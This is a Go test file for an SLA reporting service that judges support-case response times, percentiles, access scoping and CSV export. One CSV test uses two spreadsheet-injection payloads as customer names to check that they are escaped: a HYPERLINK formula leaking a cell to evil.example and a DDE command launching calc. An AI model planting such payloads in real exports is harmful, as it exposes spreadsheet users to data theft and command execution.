package reports

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"accord/internal/accord"
	"accord/internal/cases"
	"accord/internal/directory"
	"accord/internal/sla"
)

const (
	acme     accord.ID = "org_acme"
	globex   accord.ID = "org_globex"
	bluebird accord.ID = "org_bluebird"
	south    accord.ID = "org_south" // a partner serving Globex
)

var testOrgs = fakeDirectory{
	orgs: map[accord.ID]directory.Organization{
		acme:     {ID: acme, Kind: directory.KindCustomer, Name: "Acme Bank"},
		globex:   {ID: globex, Kind: directory.KindCustomer, Name: "Globex Health"},
		bluebird: {ID: bluebird, Kind: directory.KindCustomer, Name: "bluebird Logistics"}, // lower case: sorted without regard to case
		south:    {ID: south, Kind: directory.KindPartner, Name: "Southwind"},
	},
	partners: map[accord.ID][]accord.ID{south: {globex}},
}

// The report's instant: Monday 2026-11-02 10:00 in New York (EST, the day
// after DST ended), two days after the month.
var reportAt = local("2026-11-02 10:00")

// october is the fixed data set: October 2026 (EDT, UTC-4) in New York.
// Each case says what the report makes of it at reportAt, and why.
// Targets (default policy): premium C1 30m 24x7 and C2 1h 24x7, both
// needing a call; C3 8h and C4 12h on support hours (Mon-Fri 08:00-20:00
// New York). Advanced C2 2h on support hours needing a call, C3 8h, C4 18h.
var october = []struct {
	kase
	want    outcome
	counted bool
	ttfr    time.Duration // working time to the first response
}{
	// Acme Bank, premium.
	// C1 by phone, Tue 02:00, answered 02:20: 24x7 clock, due 02:30. Met in 20m.
	{kase{name: "a1", org: acme, plan: "premium", crit: sla.C1, channel: sla.Phone, received: "2026-10-06 02:00", answered: "2026-10-06 02:20"}, met, true, 20 * time.Minute},
	// C1 by phone, Wed 22:00, answered 22:45: due 22:30. Breached, 45m.
	{kase{name: "a2", org: acme, plan: "premium", crit: sla.C1, channel: sla.Phone, received: "2026-10-14 22:00", answered: "2026-10-14 22:45"}, breached, true, 45 * time.Minute},
	// C1 in the portal without a call: best effort on support hours from
	// Thu 12:00, answered 13:30. Not guaranteed, 1h30m.
	{kase{name: "a3", org: acme, plan: "premium", crit: sla.C1, channel: sla.Portal, received: "2026-10-15 12:00", answered: "2026-10-15 13:30"}, notGuaranteed, true, 90 * time.Minute},
	// C1 by phone, Tue 09:00, answered 09:30, the due instant itself: the
	// whole target was used, so breached, 30m.
	{kase{name: "a4", org: acme, plan: "premium", crit: sla.C1, channel: sla.Phone, received: "2026-10-20 09:00", answered: "2026-10-20 09:30"}, breached, true, 30 * time.Minute},
	// C3 in the portal Fri 19:00, over the weekend, held for the customer
	// Mon 09:00-11:00, answered Mon 12:00. Worked: Fri 19-20 (1h) + Mon 08-09
	// (1h) + Mon 11-12 (1h) = 3h, though 65h of wall time passed. Due: 8h =
	// 1h Fri + 1h Mon + 6h after the pause = Mon 17:00. Met, 3h.
	{kase{name: "a5", org: acme, plan: "premium", crit: sla.C3, channel: sla.Portal, received: "2026-10-09 19:00",
		pauses: [][2]string{{"2026-10-12 09:00", "2026-10-12 11:00"}}, answered: "2026-10-12 12:00"}, met, true, 3 * time.Hour},
	// C3 in the portal Sat 10:00: starts Mon 19 08:00, due 16:00, never
	// answered. Breached at reportAt.
	{kase{name: "a6", org: acme, plan: "premium", crit: sla.C3, channel: sla.Portal, received: "2026-10-17 10:00"}, breached, true, 0},
	// C4 in the portal Sat 31 23:59 EDT (Nov 1 03:59 UTC): still October in
	// New York. Starts Mon Nov 2 08:00 EST; 12h ends at 20:00, the close,
	// so due Tue 08:00. Unanswered at Mon 10:00: pending.
	{kase{name: "a7", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-10-31 23:59"}, pending, true, 0},
	// Received Sun Nov 1 00:00 EDT: November, not counted.
	{kase{name: "a8", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-11-01 00:00", answered: "2026-11-02 09:00"}, "", false, 0},
	// Received Wed Sep 30 23:59 EDT (Oct 1 03:59 UTC): September, not counted.
	{kase{name: "a9", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-09-30 23:59", answered: "2026-10-01 09:00"}, "", false, 0},
	// An enhancement request has no response clock: not counted.
	{kase{name: "a10", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-10-12 10:00", enhancement: true}, "", false, 0},
	// C2 by phone Tue 10:00 (24x7, 1h, due 11:00), held for the customer
	// at 11:30 and still held: a paused clock has no due instant, but it
	// had used 1h30m >= 1h before the hold. Breached.
	{kase{name: "a11", org: acme, plan: "premium", crit: sla.C2, channel: sla.Phone, received: "2026-10-27 10:00",
		pauses: [][2]string{{"2026-10-27 11:30", ""}}}, breached, true, 0},
	// C2 by phone Sat 31 23:00 EDT, held at 23:20 and still held: 20m of
	// 1h used. Pending.
	{kase{name: "a12", org: acme, plan: "premium", crit: sla.C2, channel: sla.Phone, received: "2026-10-31 23:00",
		pauses: [][2]string{{"2026-10-31 23:20", ""}}}, pending, true, 0},

	// Globex Health, advanced, then premium from its renewal.
	// C2 by phone Fri 19:00: 1h Fri + Mon 08:00-09:00 = due Mon 09:00;
	// answered Mon 08:30: 1h + 30m. Met, 1h30m.
	{kase{name: "g1", org: globex, plan: "advanced", crit: sla.C2, channel: sla.Phone, received: "2026-10-23 19:00", answered: "2026-10-26 08:30"}, met, true, 90 * time.Minute},
	// C2 in the portal Tue 10:00, call at 10:30 starts the guaranteed clock:
	// due 12:30, answered 12:45. Breached, 2h15m from the call.
	{kase{name: "g2", org: globex, plan: "advanced", crit: sla.C2, channel: sla.Portal, received: "2026-10-13 10:00", call: "2026-10-13 10:30", answered: "2026-10-13 12:45"}, breached, true, 135 * time.Minute},
	// C2 in the portal Tue 19:00, no call: best effort; answered Wed 09:00:
	// 1h Tue + 1h Wed. Not guaranteed, 2h.
	{kase{name: "g3", org: globex, plan: "advanced", crit: sla.C2, channel: sla.Portal, received: "2026-10-13 19:00", answered: "2026-10-14 09:00"}, notGuaranteed, true, 2 * time.Hour},
	// C4 in the portal Thu Oct 1 00:30: starts 08:00, 12h Thu + 6h Fri =
	// due Fri 14:00; answered Fri 13:00: 12h + 5h. Met, 17h.
	{kase{name: "g4", org: globex, plan: "advanced", crit: sla.C4, channel: sla.Portal, received: "2026-10-01 00:30", answered: "2026-10-02 13:00"}, met, true, 17 * time.Hour},
	// Premium C3 in the portal Wed 14:00, answered 14:30. Met, 30m.
	{kase{name: "g5", org: globex, plan: "premium", crit: sla.C3, channel: sla.Portal, received: "2026-10-28 14:00", answered: "2026-10-28 14:30"}, met, true, 30 * time.Minute},

	// bluebird Logistics, advanced, opened under policy version 2 (support
	// hours 09:00-17:00). C3 in the portal Fri 16:00, answered Mon 10:00:
	// Fri 16-17 (1h) + Mon 09-10 (1h) = 2h on its own clock (version 1's
	// hours would give 4h + 2h = 6h). Due: 1h Fri + 7h Mon = Mon 16:00. Met, 2h.
	{kase{name: "z1", org: bluebird, version: 2, plan: "advanced", crit: sla.C3, channel: sla.Portal, received: "2026-10-16 16:00", answered: "2026-10-19 10:00"}, met, true, 2 * time.Hour},
}

func octoberService(t *testing.T) (*Service, *fakeStore) {
	t.Helper()
	pols := testPolicies(t)
	st := &fakeStore{}
	for _, k := range october {
		st.cases = append(st.cases, settle(t, pols, k.facts()))
	}
	return NewService(st, pols, testOrgs, DefaultConfig()), st
}

// Each case of the data set is judged as its comment says.
func TestJudgeOctober(t *testing.T) {
	pols := testPolicies(t)
	for _, k := range october {
		if !k.counted {
			continue
		}
		c := settle(t, pols, k.facts())
		got, err := judge(pols[c.Clock.PolicyVersion], c, reportAt)
		if err != nil {
			t.Fatalf("%s: %v", k.name, err)
		}
		want := judged{outcome: k.want, responded: k.answered != "", ttfr: k.ttfr, crit: k.crit}
		if got != want {
			t.Errorf("%s: judged %+v, want %+v", k.name, got, want)
		}
	}
}

// The expected table, computed by hand from the cases above. Percentiles
// are nearest-rank: of n sorted times, the median is the ceil(n/2)-th and
// the 90th percentile the ceil(0.9n)-th.
func TestSLAReportOctober(t *testing.T) {
	svc, st := octoberService(t)
	got, err := svc.SLA(actor(accord.RoleAuditor, "org_vendor"), reportAt, Query{Month: "2026-10"})
	if err != nil {
		t.Fatal(err)
	}
	row := func(org accord.ID, name, plan string, crit sla.Criticality, cases, met, breached, ng, pending, responded int, median, p90 time.Duration) SLARow {
		r := SLARow{Month: "2026-10", OrgID: org, Customer: name, Plan: plan, Criticality: crit, Cases: cases, Met: met,
			Breached: breached, NotGuaranteed: ng, Pending: pending, Responded: responded}
		if responded > 0 {
			r.Median, r.P90 = span(median), span(p90)
		}
		return r
	}
	want := SLAReport{
		Month: "2026-10", Zone: "America/New_York",
		// Midnight EDT (UTC-4) on Oct 1 and on Nov 1 (DST ends at 02:00).
		From: time.Date(2026, 10, 1, 4, 0, 0, 0, time.UTC), To: time.Date(2026, 11, 1, 4, 0, 0, 0, time.UTC),
		At: reportAt,
		Rows: []SLARow{
			// a1 met, a2 a4 breached, a3 not guaranteed. Times 20m 30m 45m
			// 1h30m: median the 2nd (30m), p90 the ceil(3.6) = 4th (1h30m).
			row(acme, "Acme Bank", "premium", sla.C1, 4, 1, 2, 1, 0, 4, 30*time.Minute, 90*time.Minute),
			// a11 breached (paused after its due instant), a12 pending (paused).
			row(acme, "Acme Bank", "premium", sla.C2, 2, 0, 1, 0, 1, 0, 0, 0),
			// a5 met in 3h, a6 breached unanswered.
			row(acme, "Acme Bank", "premium", sla.C3, 2, 1, 1, 0, 0, 1, 3*time.Hour, 3*time.Hour),
			// a7 pending; a8 (November), a9 (September), a10 (no clock) left out.
			row(acme, "Acme Bank", "premium", sla.C4, 1, 0, 0, 0, 1, 0, 0, 0),
			// z1 met in 2h on version 2's hours.
			row(bluebird, "bluebird Logistics", "advanced", sla.C3, 1, 1, 0, 0, 0, 1, 2*time.Hour, 2*time.Hour),
			// g1 met, g2 breached, g3 not guaranteed. Times 1h30m 2h 2h15m:
			// median the 2nd (2h), p90 the ceil(2.7) = 3rd (2h15m).
			row(globex, "Globex Health", "advanced", sla.C2, 3, 1, 1, 1, 0, 3, 2*time.Hour, 135*time.Minute),
			// g4 met in 17h.
			row(globex, "Globex Health", "advanced", sla.C4, 1, 1, 0, 0, 0, 1, 17*time.Hour, 17*time.Hour),
			// g5 met in 30m.
			row(globex, "Globex Health", "premium", sla.C3, 1, 1, 0, 0, 0, 1, 30*time.Minute, 30*time.Minute),
		},
		// 15 cases = 6 met (a1 a5 g1 g4 g5 z1) + 5 breached (a2 a4 a6 a11 g2)
		// + 2 not guaranteed (a3 g3) + 2 pending (a7 a12). 11 answered:
		// 20m 30m 30m 45m 1h30m 1h30m 2h 2h 2h15m 3h 17h; the median is the
		// ceil(5.5) = 6th (1h30m), p90 the ceil(9.9) = 10th (3h).
		Total: SLARow{Month: "2026-10", Cases: 15, Met: 6, Breached: 5, NotGuaranteed: 2, Pending: 2, Responded: 11,
			Median: span(90 * time.Minute), P90: span(3 * time.Hour)},
		Reclassified: []ReclassifiedCase{},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Fatalf("report (-want +got):\n%s", d)
	}
	if !st.from.Equal(want.From) || !st.to.Equal(want.To) {
		t.Errorf("asked the store for [%s, %s)", st.from, st.to)
	}
	if got.Total.Median.Seconds != 5400 || got.Total.Median.Text != "1h30m" || got.Rows[0].P90.Text != "1h30m" || got.Rows[6].Median.Text != "17h" {
		t.Errorf("spans written as %+v, %+v, %+v", got.Total.Median, got.Rows[0].P90, got.Rows[6].Median)
	}
}

// Who sees what: vendor staff everything, a partner agent its customers, a
// customer contact its own organization; another tenant's id is NotFound.
func TestSLAReportScope(t *testing.T) {
	svc, _ := octoberService(t)
	oct := Query{Month: "2026-10"}
	customers := func(r SLAReport) []string {
		var l []string
		for _, row := range r.Rows {
			if len(l) == 0 || l[len(l)-1] != row.Customer {
				l = append(l, row.Customer)
			}
		}
		return l
	}
	for _, tc := range []struct {
		name       string
		ctx        context.Context
		q          Query
		customers  []string
		cases, met int
		median     time.Duration
	}{
		{"admin", actor(accord.RoleAdmin, "org_vendor"), oct, []string{"Acme Bank", "bluebird Logistics", "Globex Health"}, 15, 6, 90 * time.Minute},
		{"agent", actor(accord.RoleAgent, "org_vendor"), oct, []string{"Acme Bank", "bluebird Logistics", "Globex Health"}, 15, 6, 90 * time.Minute},
		{"system", accord.WithActor(context.Background(), accord.SystemActor("cli")), oct, []string{"Acme Bank", "bluebird Logistics", "Globex Health"}, 15, 6, 90 * time.Minute},
		// Acme: 9 cases, met a1 a5; answered 20m 30m 45m 1h30m 3h: median the 3rd.
		{"acme contact", actor(accord.RoleCustomerContact, acme), oct, []string{"Acme Bank"}, 9, 2, 45 * time.Minute},
		{"acme contact, own id", actor(accord.RoleCustomerContact, acme), Query{Month: "2026-10", OrgID: acme}, []string{"Acme Bank"}, 9, 2, 45 * time.Minute},
		// Globex: 5 cases, met g1 g4 g5; answered 30m 1h30m 2h 2h15m 17h: median the 3rd.
		{"partner", actor(accord.RolePartnerAgent, south), oct, []string{"Globex Health"}, 5, 3, 2 * time.Hour},
		{"vendor, one customer", actor(accord.RoleAdmin, "org_vendor"), Query{Month: "2026-10", OrgID: globex}, []string{"Globex Health"}, 5, 3, 2 * time.Hour},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := svc.SLA(tc.ctx, reportAt, tc.q)
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(tc.customers, customers(r)); d != "" {
				t.Errorf("customers (-want +got):\n%s", d)
			}
			if r.Total.Cases != tc.cases || r.Total.Met != tc.met || r.Total.Median == nil || r.Total.Median.Seconds != int64(tc.median/time.Second) {
				t.Errorf("total %+v median %+v, want %d cases, %d met, median %s", r.Total, r.Total.Median, tc.cases, tc.met, tc.median)
			}
		})
	}
	for _, tc := range []struct {
		name string
		ctx  context.Context
		q    Query
		kind accord.Kind
	}{
		{"acme asks for globex", actor(accord.RoleCustomerContact, acme), Query{Month: "2026-10", OrgID: globex}, accord.NotFound},
		{"partner asks for acme", actor(accord.RolePartnerAgent, south), Query{Month: "2026-10", OrgID: acme}, accord.NotFound},
		{"unknown organization", actor(accord.RoleAdmin, "org_vendor"), Query{Month: "2026-10", OrgID: "org_nobody"}, accord.NotFound},
		{"nobody signed in", context.Background(), oct, accord.Unauthenticated},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := svc.SLA(tc.ctx, reportAt, tc.q)
			if accord.KindOf(err) != tc.kind {
				t.Fatalf("error %v (report %+v), want %s", err, r, tc.kind)
			}
		})
	}
}

func TestSLAReportMonth(t *testing.T) {
	svc, _ := octoberService(t)
	admin := actor(accord.RoleAdmin, "org_vendor")
	for _, bad := range []string{"", "2026-13", "2026-00", "2026-1", "26-10", "2026-10-01", "2026/10", "october", "2026-10x", " 2026-10", "1899-12", "2150-01"} {
		_, err := svc.SLA(admin, reportAt, Query{Month: bad})
		if e := accord.Public(err); e.Kind != accord.Invalid || e.Field != "month" {
			t.Errorf("month %q: error %v, want invalid month", bad, err)
		}
	}
	// A month without cases is an empty report, not an error; its totals
	// have no percentiles.
	r, err := svc.SLA(admin, reportAt, Query{Month: "2026-12"})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Rows) != 0 || r.Rows == nil || r.Total.Cases != 0 || r.Total.Median != nil {
		t.Fatalf("empty month: %+v", r)
	}
	// March 2026: DST starts on the 8th; the month still begins at
	// midnight EST and ends at midnight EDT.
	from, to, err := DefaultConfig().Month("2026-03")
	if err != nil || !from.Equal(time.Date(2026, 3, 1, 5, 0, 0, 0, time.UTC)) || !to.Equal(time.Date(2026, 4, 1, 4, 0, 0, 0, time.UTC)) {
		t.Fatalf("March 2026 = [%s, %s), %v", from, to, err)
	}
}

// A customer whose name is a formula is text in the CSV; so is any other
// cell that starts like one. Every row has every column.
func TestSLACSVEscapesFormulas(t *testing.T) {
	evil := accord.ID("org_evil")
	dir := fakeDirectory{orgs: map[accord.ID]directory.Organization{
		evil: {ID: evil, Kind: directory.KindCustomer, Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		acme: {ID: acme, Kind: directory.KindCustomer, Name: "@SUM(1+1)*cmd|' /C calc'!A0"},
	}}
	pols := testPolicies(t)
	st := &fakeStore{cases: []cases.Case{
		settle(t, pols, kase{name: "e1", org: evil, plan: "premium", crit: sla.C3, channel: sla.Portal, received: "2026-10-28 14:00", answered: "2026-10-28 14:30"}.facts()),
		settle(t, pols, kase{name: "e2", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-10-28 14:00"}.facts()),
	}}
	svc := NewService(st, pols, dir, DefaultConfig())
	r, err := svc.SLA(actor(accord.RoleAdmin, "org_vendor"), reportAt, Query{Month: "2026-10"})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	want := strings.Join([]string{
		"month,customer_id,customer,plan,criticality,cases,met,breached,not_guaranteed,pending,reclassified,responded,median_first_response_seconds,median_first_response,p90_first_response_seconds,p90_first_response",
		`2026-10,org_evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",premium,C3,1,1,0,0,0,0,1,1800,30m,1800,30m`,
		`2026-10,org_acme,'@SUM(1+1)*cmd|' /C calc'!A0,premium,C4,1,0,1,0,0,0,0,,,,`,
		"2026-10,,Total,,,2,1,1,0,0,0,1,1800,30m,1800,30m",
	}, "\n") + "\n"
	if d := cmp.Diff(want, b.String()); d != "" {
		t.Fatalf("CSV (-want +got):\n%s", d)
	}
	// The unescaped table keeps the names as they are, for JSON and the
	// terminal.
	if got := r.Table()[1][2]; got != dir.orgs[evil].Name {
		t.Fatalf("table cell %q", got)
	}
}

// Reclassified cases: a breach recorded under a criticality stands after
// the case is lowered, and counts in the row of the criticality in force
// at the breach; a case answered in time counts under the criticality in
// force at its first response. Every reclassified case is listed with its
// criticality history.
func TestSLAReportReclassified(t *testing.T) {
	day := func(s string) time.Time { return local("2026-10-06 " + s) } // a Tuesday
	change := func(from, to sla.Criticality, at string) cases.CriticalityChange {
		return cases.CriticalityChange{From: from, To: to, At: day(at)}
	}
	premium := func(id string, n int64, crit sla.Criticality, received, starts, due string, kind string, target time.Duration) cases.Case {
		return cases.Case{ID: accord.ID(id), Number: n, OrgID: acme, Type: cases.Incident, Criticality: crit, State: cases.Open,
			Clock: cases.Clock{PolicyVersion: 1, Plan: "premium", Channel: sla.Phone, ReceivedAt: day(received), Kind: kind,
				StartsAt: day(starts), Target: sla.Duration(target), Guaranteed: true, DueAt: ptr(day(due))}}
	}
	// The issue's scenario: C3 by phone at 10:00 (due 18:00), raised to C1
	// at 11:00 (due 11:30), breached at 11:40, lowered to C3 at 12:00,
	// answered at 13:00, before the C3 due time. Breached, under C1; 3h.
	issue := premium("cas_issue", 1, sla.C3, "10:00", "10:00", "18:00", "support-hours", 8*time.Hour)
	issue.Clock.RespondedAt = ptr(day("13:00"))
	issue.Clock.BreachedAt, issue.Clock.BreachCriticality, issue.Clock.BreachDueAt = ptr(day("11:40")), sla.C1, ptr(day("11:30"))
	issue.Reclassifications = []cases.CriticalityChange{change(sla.C3, sla.C1, "11:00"), change(sla.C1, sla.C3, "12:00")}
	// C3 by phone at 10:00, raised to C1 at 14:00 (due 14:30), answered
	// 14:10. Met under C1, 10m from the raise.
	raised := premium("cas_raised", 2, sla.C1, "10:00", "14:00", "14:30", sla.Clock24x7, 30*time.Minute)
	raised.Clock.RespondedAt = ptr(day("14:10"))
	raised.Reclassifications = []cases.CriticalityChange{change(sla.C3, sla.C1, "14:00")}
	// C2 by phone at 10:00 (due 11:00), answered 10:20, lowered to C4 at
	// 12:00: the first response was judged under C2. Met, 20m.
	after := premium("cas_after", 3, sla.C4, "10:00", "10:00", "11:00", sla.Clock24x7, time.Hour)
	after.Clock.RespondedAt = ptr(day("10:20"))
	after.Reclassifications = []cases.CriticalityChange{change(sla.C2, sla.C4, "12:00")}
	// Never reclassified: C3 by phone at 10:00, answered 11:00. Met, 1h.
	plain := premium("cas_plain", 4, sla.C3, "10:00", "10:00", "18:00", "support-hours", 8*time.Hour)
	plain.Clock.RespondedAt = ptr(day("11:00"))

	svc := NewService(&fakeStore{cases: []cases.Case{issue, raised, after, plain}}, testPolicies(t), testOrgs, DefaultConfig())
	r, err := svc.SLA(actor(accord.RoleAdmin, "org_vendor"), reportAt, Query{Month: "2026-10"})
	if err != nil {
		t.Fatal(err)
	}
	row := func(crit sla.Criticality, n, met, breached, reclassified int, median, p90 time.Duration) SLARow {
		return SLARow{Month: "2026-10", OrgID: acme, Customer: "Acme Bank", Plan: "premium", Criticality: crit, Cases: n, Met: met,
			Breached: breached, Reclassified: reclassified, Responded: n, Median: span(median), P90: span(p90)}
	}
	want := []SLARow{
		// issue breached (3h), raised met (10m): median the 1st, p90 the 2nd.
		row(sla.C1, 2, 1, 1, 2, 10*time.Minute, 3*time.Hour),
		row(sla.C2, 1, 1, 0, 1, 20*time.Minute, 20*time.Minute),
		row(sla.C3, 1, 1, 0, 0, time.Hour, time.Hour),
	}
	if d := cmp.Diff(want, r.Rows); d != "" {
		t.Fatalf("rows (-want +got):\n%s", d)
	}
	if r.Total.Cases != 4 || r.Total.Breached != 1 || r.Total.Met != 3 || r.Total.Reclassified != 3 {
		t.Fatalf("total %+v, want 4 cases, 1 breached, 3 met, 3 reclassified", r.Total)
	}
	wantCases := []ReclassifiedCase{
		{CaseID: "cas_issue", Number: 1, OrgID: acme, Customer: "Acme Bank", Plan: "premium", Criticality: sla.C1, Outcome: "breached",
			Opened: sla.C3, Reclassifications: issue.Reclassifications, BreachDueAt: ptr(day("11:30"))},
		{CaseID: "cas_raised", Number: 2, OrgID: acme, Customer: "Acme Bank", Plan: "premium", Criticality: sla.C1, Outcome: "met",
			Opened: sla.C3, Reclassifications: raised.Reclassifications},
		{CaseID: "cas_after", Number: 3, OrgID: acme, Customer: "Acme Bank", Plan: "premium", Criticality: sla.C2, Outcome: "met",
			Opened: sla.C2, Reclassifications: after.Reclassifications},
	}
	if d := cmp.Diff(wantCases, r.Reclassified); d != "" {
		t.Fatalf("reclassified cases (-want +got):\n%s", d)
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	wantCSV := strings.Join([]string{
		"month,customer_id,customer,plan,criticality,cases,met,breached,not_guaranteed,pending,reclassified,responded,median_first_response_seconds,median_first_response,p90_first_response_seconds,p90_first_response",
		"2026-10,org_acme,Acme Bank,premium,C1,2,1,1,0,0,2,2,600,10m,10800,3h",
		"2026-10,org_acme,Acme Bank,premium,C2,1,1,0,0,0,1,1,1200,20m,1200,20m",
		"2026-10,org_acme,Acme Bank,premium,C3,1,1,0,0,0,0,1,3600,1h,3600,1h",
		"2026-10,,Total,,,4,3,1,0,0,3,4,1200,20m,10800,3h",
	}, "\n") + "\n"
	if d := cmp.Diff(wantCSV, b.String()); d != "" {
		t.Fatalf("CSV (-want +got):\n%s", d)
	}
}
